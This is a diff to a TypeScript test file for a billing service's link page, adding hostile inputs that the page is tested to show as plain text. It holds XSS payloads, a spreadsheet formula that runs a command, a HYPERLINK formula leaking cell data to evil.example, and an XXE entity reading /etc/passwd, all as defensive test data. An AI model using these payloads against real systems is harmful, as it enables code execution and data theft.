@@ -5,7 +5,7 @@ import { aSubscription, anInvoice } from './billing-samples.ts';
 import { textOf } from './page-text.ts';
 import { startService, type Service } from './start-service.ts';
 
-it('allows only its own style and script, and forbids caching and referrers', async () => {
+it('S13: allows only its own style and script, and forbids caching and referrers', async () => {
   await using service = await startService();
   const { token } = await service.createLink();
   const [one, other] = [await service.visit(token), await service.visit(token)];
@@ -41,7 +41,7 @@ it('allows only its own style and script, and forbids caching and referrers', as
     });
 });
 
-it('shows hostile texts as text', async () => {
+it('S13, S46: shows hostile texts as text', async () => {
   await using service = await startService();
   const hostile = [
     '<script>alert(1)</script>',
@@ -74,6 +74,17 @@ it('shows hostile texts as text', async () => {
     '%3Cscript%3Ealert(1)%3C/script%3E',
     `${'<b>'.repeat(60)}200 characters and more`,
     '<input autofocus onfocus=alert(1)>',
+    `=cmd|'/c calc'!A0`,
+    '=HYPERLINK("https://evil.example/"&A1,"click")',
+    '\u2066abc\u2069\u2067def',
+    '\u200bzero\u200bwidth\ufeff',
+    'a\u0301'.repeat(100),
+    '[click](javascript:alert(1))',
+    '![x](https://evil.example/x.png)',
+    '# heading **bold** `code` <b>x</b>',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+    '\u001b]0;title\u0007\u001b[31mred',
+    'tab\tseparated, "quoted"; semicolon',
   ];
   const { otherServices } = service;
   const { token } = await service.createLink({
